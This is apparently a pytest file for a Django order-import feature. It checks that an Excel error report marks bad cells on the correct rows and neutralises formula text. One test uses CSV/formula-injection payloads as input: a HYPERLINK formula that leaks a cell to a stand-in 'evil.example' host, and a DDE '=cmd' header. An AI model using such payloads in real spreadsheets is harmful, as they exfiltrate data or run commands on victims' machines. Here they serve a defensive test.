"""The downloadable error report: the file's rows with the bad cells marked, and the list
of problems (issue 13, items 4 and 16)."""

import io

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.urls import reverse
from openpyxl import load_workbook

from orders.models import ImportJob

from .conftest import HEADERS, good_row, row, xlsx

pytestmark = pytest.mark.django_db

HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&A2,"点击查看")'


def _upload(client, user, data: bytes) -> ImportJob:
    client.force_login(user)
    client.post(reverse("orders:imports"), {"file": SimpleUploadedFile("orders.xlsx", data)})
    return ImportJob.objects.latest("pk")


def _report(client, job: ImportJob):
    response = client.get(reverse("orders:import_report", args=[job.pk]))
    assert response.status_code == 200
    return load_workbook(io.BytesIO(response.content))


def _column(header: str) -> int:
    return HEADERS.index(header) + 1


def test_text_that_excel_would_run_as_a_formula_stays_text_in_the_error_report(client, shop):
    data = xlsx([
        good_row(customer=HYPERLINK, notes="=1+1") + ["x"],
        good_row(external_ref="@SUM(1)", quantity=-1, contact_name="+86 李四") + ["y"],
    ], headers=HEADERS + ["=cmd|' /C calc'!A0"])
    job = _upload(client, shop["sales"], data)
    assert job.status == ImportJob.Status.INVALID

    workbook = _report(client, job)

    assert [cell.coordinate for sheet in workbook for r in sheet.iter_rows() for cell in r
            if cell.data_type == "f"] == []
    sheet = workbook["订单导入"]
    assert sheet.cell(row=2, column=_column("客户名称")).value == "'" + HYPERLINK
    assert sheet.cell(row=2, column=_column("备注")).value == "'=1+1"
    assert sheet.cell(row=3, column=_column("外部单号")).value == "'@SUM(1)"
    assert sheet.cell(row=3, column=_column("联系人")).value == "'+86 李四"
    listing = [[c.value for c in r] for r in workbook["问题清单"].iter_rows(min_row=2)]
    assert ["'" + HYPERLINK in line for line in listing].count(True) >= 1
    assert any(str(line[2]).startswith("'=cmd") for line in listing)  # the unknown column, named by the file


def test_a_flagged_cell_sits_on_the_row_the_problem_list_names(client, shop):
    # The template's example row (row 2) is skipped and a blank row left in the middle:
    # the report used to write the rows one after another, one row above the list.
    data = xlsx([
        row(external_ref="示例-0001", customer="示例客户", sku="P0001", quantity=1),
        good_row(),
        [],
        good_row(external_ref="PO-2"),
        good_row(external_ref="PO-3", sku="NOPE"),
    ])
    job = _upload(client, shop["sales"], data)
    [problem] = [p for p in job.problems if p["level"] == "error"]
    assert (problem["row"], problem["column"], problem["letter"]) == (6, "商品编码", "F")

    workbook = _report(client, job)

    sheet = workbook["订单导入"]
    flagged = [cell.coordinate for r in sheet.iter_rows() for cell in r if cell.comment is not None]
    assert flagged == ["F6"]
    assert sheet["A6"].value == "PO-3" and sheet["A3"].value == "PO-1" and sheet["A5"].value == "PO-2"
    note = sheet.cell(row=6, column=len(HEADERS) + 1).value
    assert note.startswith("商品编码（F列）：商品编码不存在")
    assert "第6行" not in note and "原第" not in note
    listing = [[c.value for c in r] for r in workbook["问题清单"].iter_rows(min_row=2)]
    assert [(line[0], line[1], line[2]) for line in listing if line[0] == "错误"] == [("错误", 6, "商品编码（F列）")]


def test_a_title_row_above_the_header_keeps_the_rows_where_the_list_says(client, shop):
    data = xlsx([good_row(), good_row(external_ref="PO-2", quantity="abc")], before=[["华兴科技 12月订单"]])
    job = _upload(client, shop["sales"], data)
    [problem] = [p for p in job.problems if p["level"] == "error"]
    assert problem["row"] == 4

    sheet = _report(client, job)["订单导入"]

    assert [c.value for c in sheet[2]][:3] == HEADERS[:3]  # the header where the file had it
    assert sheet.cell(row=4, column=_column("数量")).comment is not None
    assert sheet.cell(row=4, column=_column("数量")).value == "abc"


def test_the_error_report_link_shows_only_when_there_is_something_to_fix(client, shop):
    clean = _upload(client, shop["sales"], xlsx([
        row(external_ref="示例-0001", customer="示例客户", sku="P0001", quantity=1), good_row()]))
    assert clean.status == ImportJob.Status.READY and clean.problems  # only the note on the example row
    page = client.get(reverse("orders:import_detail", args=[clean.pk])).content.decode()
    assert 'data-testid="error-report"' not in page
    client.post(reverse("orders:import_confirm", args=[clean.pk]))
    page = client.get(reverse("orders:import_detail", args=[clean.pk])).content.decode()
    assert 'data-testid="error-report"' not in page

    wrong = _upload(client, shop["sales"], xlsx([good_row(external_ref="PO-9", quantity="x")]))
    page = client.get(reverse("orders:import_detail", args=[wrong.pk])).content.decode()
    assert 'data-testid="error-report"' in page


def test_with_shifted_columns_the_list_names_the_flagged_cell_of_the_report(client, shop):
    job = _upload(client, shop["sales"], xlsx([good_row(quantity="abc")], offset_columns=2))
    [problem] = [p for p in job.problems if p["level"] == "error"]
    assert (problem["row"], problem["letter"]) == (2, "K")  # where the clerk's file has it

    workbook = _report(client, job)

    flagged = [cell.coordinate for r in workbook["订单导入"].iter_rows() for cell in r if cell.comment is not None]
    listing = [[c.value for c in r] for r in workbook["问题清单"].iter_rows(min_row=2)]
    assert flagged == ["I2"] and [line[2] for line in listing if line[0] == "错误"] == ["数量（I列）"]
